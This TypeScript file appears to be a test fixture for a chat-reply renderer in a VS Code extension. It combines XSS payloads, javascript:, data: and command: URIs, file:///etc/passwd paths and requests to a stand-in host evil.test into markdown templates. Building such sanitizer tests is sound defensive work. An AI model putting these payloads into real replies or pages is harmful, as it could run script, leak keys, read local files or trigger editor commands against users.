/** What a reply may try to smuggle in as HTML. */
const markup = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src="https://evil.test/p.png"/onload=alert(1)>',
  '<svg><script href="data:,alert(1)"/></svg>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>parent.x()</script>"></iframe>',
  '<a href="command:workbench.action.quit" id=root class=turn>x</a>',
  '<style>@import "https://evil.test/a.css";*{display:none}</style>',
  '<link rel=stylesheet href=https://evil.test/a.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<form action=https://evil.test><input name=key autofocus onfocus=alert(1)></form>',
  '<button formaction=javascript:alert(1) class="primary">Send</button>',
  '<details open ontoggle=alert(1)><summary>Thoughts</summary></details>',
  '<input type=checkbox onclick=alert(1)>',
  '<label for=root onclick=alert(1)>x</label>',
  '<video poster=https://evil.test/p.png><source src=x onerror=alert(1)></video>',
  '<math><mtext><mglyph><style><img src=x onerror=alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<p dir="rtl" style="background:url(https://evil.test/b)">x</p>',
  '<br onmouseover=alert(1)>',
  '<br/ onmouseover=alert(1) >',
  '<br style=position:fixed>',
  '</label></li></ul></article></main><h1 id=root>Sign in again</h1>',
  '<!--><script>alert(1)</script-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\\<img src=x onerror=alert(1)\\>',
] as const;

/** Where a reply may try to send the user, or what it may try to run or load. */
const targets = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java&#x0A;script:alert(1)',
  'javascript&colon;alert(1)',
  'java%0ascript:alert(1)',
  '&#1;javascript:alert(1)',
  'javascript://a.test/%0aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2Zy8+',
  'command:workbench.action.terminal.new',
  'command:sightline.deleteApiKey?%5B%5D',
  'vscode:extension/evil.evil',
  'vscode-webview://x/y',
  'vscode-resource:/etc/passwd',
  'file:///etc/passwd',
  'blob:http://panel.localhost/1',
  'filesystem:http://panel.localhost/t',
  '//evil.test/x',
  '/etc/passwd',
  'https:evil.test',
  'https:\\\\evil.test',
  'ftp://evil.test/x',
  'x" onclick="alert(1)',
  "x' onclick='alert(1)",
] as const;

/** Each place in a reply that such a thing is put in; `@@` stands for it. */
const markupPlaces = {
  text: '@@',
  item: '- a\n  - @@',
  task: '- [x] @@',
  cell: '| a@@ |\n|---|\n| @@ |',
  code: '```@@\n@@\n```',
  span: '`@@` ``@@',
  formula: '\\(@@\\) $@@$',
  display: '$$\n@@\n$$',
  link: '[@@](https://a.test/@@ "@@")',
  image: '![@@](https://a.test/p.png "@@")',
  quote: '> @@\n> # @@',
  emphasis: '**「@@」**文<br>@@',
} as const;

const targetPlaces = {
  link: '[label](@@)',
  bracketed: '[label](<@@> "title")',
  reference: '[label][r]\n\n[r]: @@',
  image: '![label](@@)',
  autolink: '<@@>',
  bare: '@@ and (@@)',
  'linked image': '[![label](@@)](@@)',
  title: '[label](https://a.test/ "@@")',
} as const;

/** Hostile replies by the name of their kind. */
export const hostilePayloads: Readonly<Record<string, string>> = Object.fromEntries([
  ...combined(markupPlaces, markup),
  ...combined(targetPlaces, targets),
]);

function combined(
  places: Readonly<Record<string, string>>,
  payloads: readonly string[],
): [name: string, source: string][] {
  return Object.entries(places).flatMap(([place, template]) =>
    payloads.map((payload): [string, string] => [
      `${payload} as ${place}`,
      template.replaceAll('@@', () => payload),
    ]),
  );
}
